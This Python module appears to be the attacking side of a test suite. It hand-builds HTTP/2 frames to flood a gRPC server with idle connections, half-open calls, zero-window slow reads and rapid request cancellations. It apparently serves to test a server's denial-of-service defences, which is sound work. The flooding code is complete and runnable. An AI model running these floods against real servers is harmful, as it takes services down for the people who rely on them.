"""The hostile process of `floods.py`: HTTP/2 by hand, so that it may leave out what a gRPC client would send.

It needs no package, and reads from standard input whom it attacks, and with what.
"""

from __future__ import annotations

import contextlib
import itertools
import json
import socket
import sys
import time

ATTACKER = "127.0.0.2"
CALLS_PER_CONNECTION = 16
RENEWED_S = {"idle": 5.0, "half-open": 1.0, "cancel": 1.0}
"""How often the connections are closed and opened anew."""

CANCELS_PER_S = 200

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS = 0, 1, 3, 4
END_HEADERS, CANCELLED, WINDOW_SETTING = 4, 8, 4


def http2(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """One HTTP/2 frame (RFC 9113, section 4.1)."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def hello(*, window: int = 65_535) -> bytes:
    """What opens a connection; `window` bytes of each answer may come before more is allowed."""
    return PREFACE + http2(SETTINGS, 0, 0, WINDOW_SETTING.to_bytes(2, "big") + window.to_bytes(4, "big"))


def call(method: str, stream: int, metadata: dict[str, str]) -> bytes:
    """The headers of a gRPC call, spelt out without a table (RFC 7541, section 6.2.2)."""
    fields = {
        ":method": "POST", ":scheme": "http", ":path": f"/collabplan.Cloud/{method}", ":authority": "a",
        "content-type": "application/grpc", "te": "trailers", **metadata,
    }  # fmt: skip
    block = b"".join(
        b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
        for name, value in fields.items()
    )
    return http2(HEADERS, END_HEADERS, stream, block)


def message(stream: int, frame: bytes) -> bytes:
    """A gRPC message in DATA frames."""
    whole = b"\0" + len(frame).to_bytes(4, "big") + frame
    return b"".join(http2(DATA, 0, stream, whole[at : at + 16_384]) for at in range(0, len(whole), 16_384))


class Hostile:
    """What the hostile process does, again and again until it is ended."""

    def __init__(self, address: str, metadata: dict[str, str], frame: bytes) -> None:
        host, _, port = address.rpartition(":")
        self._target, self._metadata, self._frame = (host, int(port)), metadata, frame
        self._open: list[socket.socket] = []

    def connect(self, opening: bytes) -> socket.socket:
        """One more connection."""
        made = socket.create_connection(self._target, timeout=5, source_address=(ATTACKER, 0))
        made.sendall(opening)
        self._open.append(made)
        return made

    def renew(self) -> None:
        """Close every connection."""
        for each in self._open:
            each.close()
        self._open.clear()

    def idle(self) -> None:
        """Connections without a call."""
        for _ in range(300):
            self.connect(hello())

    def half_open(self) -> None:
        """Calls without a request."""
        for start in range(0, 72, CALLS_PER_CONNECTION):
            streams = range(1, 2 * min(CALLS_PER_CONNECTION, 72 - start), 2)
            self.connect(hello() + b"".join(call("Hello", stream, {}) for stream in streams))

    def slow(self) -> None:
        """Requests whose answers are not taken."""
        for _ in range(24):
            self.connect(hello(window=0) + call("Infer", 1, self._metadata) + message(1, self._frame))

    def cancel(self) -> None:
        """Requests that are cancelled at once, a second of them."""
        connection, began = self.connect(hello()), time.perf_counter()
        for number in range(CANCELS_PER_S):
            stream, reset = 2 * number + 1, CANCELLED.to_bytes(4, "big")
            asked = call("Infer", stream, self._metadata) + message(stream, self._frame)
            connection.sendall(asked + http2(RESET, 0, stream, reset))
            time.sleep(max(0.0, began + (number + 1) / CANCELS_PER_S - time.perf_counter()))


def flood(kind: str) -> None:
    """What the hostile process runs. Standard input says whom it attacks, and with what."""
    given = json.loads(sys.stdin.readline())
    hostile = Hostile(given["address"], given["metadata"], bytes.fromhex(given["frame"]))
    attack = {"idle": hostile.idle, "half-open": hostile.half_open, "slow": hostile.slow, "cancel": hostile.cancel}[
        kind
    ]
    for number in itertools.count():
        began = time.perf_counter()
        with contextlib.suppress(OSError):  # the server defends itself
            attack()
        if number == 0:
            print("flooding", flush=True)
        if kind not in RENEWED_S:  # the server waits longest for readers: they stay as they are
            sys.stdin.read()
        time.sleep(max(0.0, began + RENEWED_S[kind] - time.perf_counter()))
        hostile.renew()


if __name__ == "__main__":
    flood(sys.argv[1])
